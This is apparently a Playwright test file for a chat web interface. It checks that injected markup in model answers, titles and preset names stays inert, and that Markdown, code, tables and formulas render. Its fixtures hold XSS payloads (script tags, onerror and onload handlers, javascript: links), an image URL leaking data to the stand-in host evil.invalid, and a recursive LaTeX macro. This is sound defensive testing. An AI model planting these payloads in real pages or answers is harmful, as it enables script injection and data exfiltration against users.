"""What a model, a file or a title says stays inert in the page."""

import pytest
from playwright.sync_api import Page, expect

from tests.site import OWNER, Site
from tests.ui.conftest import OpenPage

pytestmark = pytest.mark.browser

MARKUP = (
    '<img src="https://evil.invalid/x.png" onerror="window.owned=1"><script>window.owned=1</script>'
)
ANSWER = f"""{MARKUP}

![secret](https://evil.invalid/leak?data=1)
[click](javascript:window.owned=1) [data](data:text/html,<script>window.owned=1</script>)
<iframe src="https://evil.invalid"></iframe><svg onload="window.owned=1"></svg>
<style>@import url(https://evil.invalid/a.css);</style>

```html
{MARKUP}
```

$\\href{{javascript:window.owned=1}}{{x}} \\includegraphics{{https://evil.invalid/y.png}}$
$$\\def\\a{{\\a\\a}}\\a$$

| {MARKUP} | b |
|---|---|
| `{MARKUP}` | **{MARKUP}** |
"""


def assert_inert(page: Page) -> None:
    page.wait_for_timeout(500)
    assert page.evaluate("window.owned") is None
    assert page.locator("#app :is(iframe, object, embed, form[action])").count() == 0
    assert page.locator("#transcript :is(script, img, style, [onerror], [onload])").count() == 0
    for href in page.locator("#app a").evaluate_all("list => list.map(a => a.href)"):
        assert href.split(":")[0] in ("http", "https", "mailto"), href


def test_an_answer_cannot_run_or_load_anything(open_page: OpenPage, site: Site) -> None:
    chat = site.conversation(MARKUP, ANSWER, title=MARKUP)
    page = open_page(f"/?chat={chat}")
    expect(page.locator(".bubble")).to_have_text(MARKUP)
    expect(page.locator("h1")).to_have_text(MARKUP)
    expect(page.locator(".conv.on .conv-title")).to_have_text(MARKUP)
    expect(page.locator("pre").first).to_contain_text("<script>")
    expect(page.locator(".katex").first).to_be_visible()
    link = page.get_by_role("link", name="secret")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    assert_inert(page)


@pytest.mark.thorough
def test_other_names_are_inert_too(open_page: OpenPage, site: Site) -> None:
    site.storage.save_preset(OWNER, MARKUP[:60], {"temperature": 1.0})
    site.conversation(MARKUP + "目印", "x", title=MARKUP)
    try:
        page = open_page()
        page.get_by_role("searchbox").fill("目印")
        expect(page.locator(".conv-snippet").first).to_contain_text("目印")
        page.get_by_role("button", name="生成の設定").click()
        page.locator("#preset input").click()
        expect(page.get_by_role("option", name="<img")).to_be_visible()
        entry = page.locator(".conv").first
        entry.hover()
        entry.get_by_role("button", name="削除").click()
        expect(page.locator(".toast")).to_contain_text("<img")
        assert_inert(page)
    finally:
        site.storage.delete_preset(OWNER, MARKUP[:60])


@pytest.mark.thorough
def test_markdown_code_tables_and_formulas_are_drawn(open_page: OpenPage, site: Site) -> None:
    answer = (
        "# 見出し\n\n**「強調」**は太字。\n\n- 一\n- 二\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nprint('こんにちは')\n```\n\n式 $x^2$ と\n\n$$\n\\frac{1}{2}\n$$\n"
    )
    page = open_page(f"/?chat={site.conversation('見本', answer)}")
    drawn = page.locator(".turn.assistant .answer")
    expect(drawn.locator("h1")).to_have_text("見出し")
    expect(drawn.locator("strong")).to_have_text("「強調」")
    expect(drawn.locator("li")).to_have_text(["一", "二"])
    expect(drawn.locator("td")).to_have_text(["1", "2"])
    expect(drawn.locator("pre .nb")).to_have_text("print")
    expect(drawn.locator(".katex")).to_have_count(2)
    expect(drawn.locator(".katex-display")).to_have_count(1)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    drawn.locator("[data-copy-code]").click()
    assert page.evaluate("navigator.clipboard.readText()") == "print('こんにちは')\n"
    page.locator(".turn.assistant [data-tool=copy]").click()
    assert page.evaluate("navigator.clipboard.readText()") == answer


@pytest.mark.thorough
def test_reasoning_is_folded_away(open_page: OpenPage, site: Site) -> None:
    chat = site.conversation("考えて", "答え")
    site.storage.update_message(OWNER, site.path(chat)[-1].id, reasoning="まず**分解**する")
    page = open_page(f"/?chat={chat}")
    thoughts = page.locator(".thoughts")
    expect(thoughts).not_to_be_visible()
    page.get_by_text("考えた過程").click()
    expect(thoughts.locator("strong")).to_have_text("分解")
